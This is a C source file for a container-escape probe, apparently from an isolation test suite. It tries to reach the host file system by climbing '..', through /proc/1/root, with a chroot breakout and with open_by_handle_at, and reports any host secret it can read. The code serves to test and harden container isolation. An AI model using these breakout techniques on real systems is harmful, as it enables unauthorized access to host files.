// probe [NAME=VALUE...], inside of a container: climbs, and writes to what it reaches. It judges nothing: it reports each place that
// it has come to (device:inode, id of the mount) and each change that went through; judge.awk knows what is whose. Lines of words,
// and a tab before what may hold spaces.
// What it changes it changes to what it was (mode, owner), or makes and takes away again, so that an attack that succeeds harms nobody.
//   secret=PATH  of a file of the host, tried from each place       handle=HEX  its file handle
//   mnt=INODE    the host's mount namespace: none of its mounts are touched
//   stay=1       live on, and keep leases on files in /etc                        out=FILE         report there
#include "probe.h"

const char *secret = "", *handle = "";
unsigned long host_mounts;
int stay;

static struct statx seen[4096];
static int places;

// A file system of the kernel's own: what is in there is looked at near its root only.
static int is_kernels(int fd)
{
    struct statfs is;
    if (fstatfs(fd, &is) != 0) return 1;
    return is.f_type == PROC_SUPER_MAGIC || is.f_type == SYSFS_MAGIC || is.f_type == CGROUP_SUPER_MAGIC || is.f_type == CGROUP2_SUPER_MAGIC;
}

static int look(int fd, struct statx *is) { return statx(fd, "", AT_EMPTY_PATH | AT_NO_AUTOMOUNT, STATX_BASIC_STATS | STATX_MNT_ID, is); }

static int is_same(const struct statx *a, const struct statx *b)
{
    return a->stx_ino == b->stx_ino && a->stx_dev_major == b->stx_dev_major && a->stx_dev_minor == b->stx_dev_minor
        && a->stx_mnt_id == b->stx_mnt_id;
}

static int is_new(const struct statx *is)
{
    for (int i = 0; i < places; i++)
        if (is_same(&seen[i], is)) return 0;
    if (places < 4096) seen[places++] = *is;
    return 1;
}

void say(const char *what, const char *how, const struct statx *is)
{
    printf("%s %u:%u:%llu %llu %c %u:%u\t%s\n", what, is->stx_dev_major, is->stx_dev_minor,
        (unsigned long long)is->stx_ino, (unsigned long long)is->stx_mnt_id,
        "?pc?d?b?-?l?s???"[is->stx_mode >> 12 & 15], is->stx_rdev_major, is->stx_rdev_minor, how);
}

// place HOW FD: one that was reached; a new one is written to as well.
int place(const char *how, int fd)
{
    struct statx is;
    if (fd < 0 || look(fd, &is) != 0 || !is_new(&is)) return 0;
    say("place", how, &is);
    change(how, fd, &is);
    return 1;
}

// The secret by its path, as if this were the host's root.
static void try_secret(const char *how, int root)
{
    char bytes[64] = "", path[PATH_MAX];
    int fd = *secret ? openat(root, secret + 1, O_RDONLY | O_NONBLOCK | O_NOFOLLOW) : -1;
    if (fd < 0) return;
    if (read(fd, bytes, sizeof bytes - 1) > 0 && strstr(bytes, "secret-of-the-host")) {
        struct statx is;
        look(fd, &is);
        snprintf(path, sizeof path, "%s%s", how, secret);
        say("secret", path, &is);
        place(path, fd);
    }
    close(fd);
}

// list HOW DIRECTORY: what is in it.
void list(const char *how, int directory)
{
    int fd = openat(directory, ".", O_RDONLY | O_DIRECTORY), count = 0;
    int most = fd >= 0 && is_kernels(fd) ? 6 : 100;
    DIR *entries = fd < 0 ? NULL : fdopendir(fd);
    struct dirent *entry;
    while (entries && count < most && (entry = readdir(entries))) {
        char path[PATH_MAX];
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') continue; // a process
        count++;
        snprintf(path, sizeof path, "%s/%s", how, entry->d_name);
        int each = openat(directory, entry->d_name, O_PATH | O_NOFOLLOW);
        if (each >= 0) { place(path, each); close(each); }
    }
    if (entries) closedir(entries);
}

// climb HOW FD: `..` from here to where it ends, and what is there.
void climb(const char *how, int fd)
{
    char path[PATH_MAX];
    int at = openat(fd, ".", O_PATH | O_DIRECTORY), steps;
    snprintf(path, sizeof path, "%s", how);
    if (at >= 0) try_secret(path, at);
    for (steps = 0; at >= 0 && steps < 64; steps++) {
        struct statx is, above;
        int up = openat(at, "..", O_PATH | O_DIRECTORY);
        if (look(at, &is) != 0 || up < 0 || look(up, &above) != 0) { close(up); break; }
        if (is_same(&is, &above)) { close(up); break; }
        if (strlen(path) < sizeof path - 4) strcat(path, "/..");
        int fresh = place(path, up);
        close(at);
        at = up;
        if (!fresh && steps > 2) break;
    }
    if (at < 0) return;
    if (steps) { try_secret(path, at); list(path, at); }
    close(at);
}

// reach HOW PATH: a path that may lead out.
void reach(const char *how, const char *path)
{
    int fd = open(path, O_PATH);
    if (fd < 0) return;
    place(how, fd);
    climb(how, fd);
    close(fd);
}

static void by_handle(void)
{
    struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } file = { .head = { .handle_bytes = 0 } };
    int type = 0, skip = 0, root = open("/", O_RDONLY | O_DIRECTORY);
    unsigned byte;
    if (sscanf(handle, "%d:%n", &type, &skip) != 1 || root < 0) return;
    for (const char *at = handle + skip; sscanf(at, "%2x", &byte) == 1 && file.head.handle_bytes < MAX_HANDLE_SZ; at += 2)
        file.head.f_handle[file.head.handle_bytes++] = (unsigned char)byte;
    file.head.handle_type = type;
    int fd = open_by_handle_at(root, &file.head, O_RDONLY | O_NONBLOCK);
    if (fd >= 0) { place("open_by_handle_at", fd); close(fd); }
    close(root);
}

// The classic: with a root of our own below, nothing stops `..` at the old one.
static void by_chroot(void)
{
    char directory[] = "/tmp/.hostile-XXXXXX", shm[] = "/dev/shm/.hostile-XXXXXX";
    char *made = mkdtemp(directory);
    if (!made) made = mkdtemp(shm);
    fflush(stdout);
    if (fork() == 0) {
        if (chdir("/") == 0 && chroot(made ? made : "/proc") == 0) {
            int here = open(".", O_PATH);
            puts("did-chroot");
            climb("chroot", here);
            for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
            if (chroot(".") == 0) reach("chroot/", "/");
        }
        fflush(stdout);
        _exit(0);
    }
    wait(NULL);
    if (made) rmdir(made);
}

static void roots(void)
{
    struct statx root = { 0 }, above = { 0 };
    int failed = statx(AT_FDCWD, "/", 0, STATX_BASIC_STATS | STATX_MNT_ID, &root)
        | statx(AT_FDCWD, "/..", 0, STATX_BASIC_STATS | STATX_MNT_ID, &above);
    puts(!failed && is_same(&root, &above) ? "root one" : "root two");
}

// Names of the file system tree to start from besides mount points: what a start makes, and what an image has.
static const char *starts[] = { "/", "/..", ".", "/etc", "/etc/..", "/tmp", "/dev/fd", "/dev/shm/..", "/dev/pts/..", "/proc/self/cwd",
    "/proc/self/root", "/proc/1/root/..", "/sys/..", "/hostile" };

int main(int argc, char **argv)
{
    static char buffer[1 << 20];
    for (int i = 1; i < argc; i++) {
        if (strncmp(argv[i], "secret=", 7) == 0) secret = argv[i] + 7;
        else if (strncmp(argv[i], "handle=", 7) == 0) handle = argv[i] + 7;
        else if (strncmp(argv[i], "mnt=", 4) == 0) host_mounts = strtoul(argv[i] + 4, NULL, 10);
        else if (strncmp(argv[i], "stay=", 5) == 0) stay = 1;
    }
    descriptors_first();
    signal(SIGIO, SIG_IGN); // somebody wants what we hold
    char *out = NULL, partial[PATH_MAX];
    for (int i = 1; i < argc; i++)
        if (strncmp(argv[i], "out=", 4) == 0) out = argv[i] + 4;
    if (out) {
        // The first of several that are to report there is enough.
        snprintf(partial, sizeof partial, "%s.new", out);
        int fd = open(partial, O_WRONLY | O_CREAT | O_EXCL, 0600);
        if (fd < 0 || dup2(fd, 1) < 0) return 0;
        close(fd);
    }
    setvbuf(stdout, buffer, _IOFBF, sizeof buffer);
    puts("begin");
    identity();
    descriptors();
    roots();
    mounts();
    for (unsigned i = 0; i < sizeof starts / sizeof *starts; i++) reach(starts[i], starts[i]);
    int root = open("/", O_PATH);
    list("", root);
    int dev = open("/dev", O_PATH);
    if (dev >= 0) list("/dev", dev);
    mount_points();
    processes();
    by_handle();
    by_chroot();
    devices();
    namespaces();
    puts("end");
    fflush(stdout);
    if (out) rename(partial, out);
    // Whoever collects the report says when this is over: by stopping the container.
    while (stay) { fclose(stdout); pause(); }
    return 0;
}
